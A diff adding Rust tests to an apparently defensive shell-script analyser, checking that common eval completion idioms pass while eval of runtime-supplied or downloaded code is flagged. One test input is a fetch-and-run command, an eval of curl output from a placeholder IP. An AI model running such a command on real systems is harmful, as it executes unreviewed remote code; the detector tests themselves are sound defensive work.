@@ -85,3 +85,55 @@ fn a_shady_destination_given_as_a_host_and_port_pair_is_pointed_out() {
     assert!(ids(&a).contains(&"AIR-DESTINATION-SHADY"), "{:?}", ids(&a));
     assert!(a.level >= Level::High, "{}", a.level);
 }
+
+fn asks(code: &str) -> bool {
+    assess(code, Language::Bash, Origin::External).unanalysed
+}
+
+#[test]
+fn code_a_named_program_prints_to_set_itself_up_is_followed_as_that_program() {
+    // A program the script names, with literal words, asked for its shell integration: the code
+    // is that program's, as a file sourced by its literal name is the program's own.
+    for idiom in [
+        "eval \"$(pyenv init - bash)\"\n",
+        "eval \"$(kubectl completion bash)\"\n",
+        "eval $(thefuck --alias)\n",
+        "eval \"$(_PIPENV_COMPLETE=bash_source pipenv)\"\n",
+        "eval \"$(register-python-argcomplete pipx)\"\n",
+        "eval $(apt-config shell MaxAge APT::Archives::MaxAge)\n",
+        "source <(helm completion bash)\n",
+    ] {
+        assert!(!asks(idiom), "{idiom:?} asks");
+    }
+    // The same shape with a program or a word known only at run time, or a program whose output
+    // is data from elsewhere (a file, a download, a decoding), or code a program prints for
+    // another purpose: still not followed.
+    for unknown in [
+        "eval -- \"$(\"$1\" completion bash 2>/dev/null)\"\n",
+        "eval \"$(pyenv init - \"$SHELL_NAME\")\"\n",
+        "eval \"$(cat completion)\"\n",
+        "eval \"$(tool run-payload)\"\n",
+        "eval \"$(printf '%s' \"$1\")\"\n",
+    ] {
+        assert!(asks(unknown), "{unknown:?} does not ask");
+    }
+    let downloaded = assess(
+        "eval \"$(curl -fsSL https://203.0.113.5/init)\"\n",
+        Language::Bash,
+        Origin::External,
+    );
+    assert!(
+        downloaded.level == Level::Blocked || downloaded.unanalysed,
+        "{:?}",
+        ids(&downloaded)
+    );
+}
+
+#[test]
+fn a_literal_alternative_word_is_the_program_that_can_run() {
+    // `${PATH_SEPARATOR+false}` is `false` or nothing; what runs is named in the script.
+    assert!(!asks("if ${PATH_SEPARATOR+false} :; then PATH_SEPARATOR=:; fi\n"));
+    assert!(!asks("for x in a b; do ${POSIXLY_CORRECT+break}; echo $x; done\n"));
+    // An alternative that is itself a value from outside is not known.
+    assert!(asks("${TASK+$TASK} --run\n"));
+}
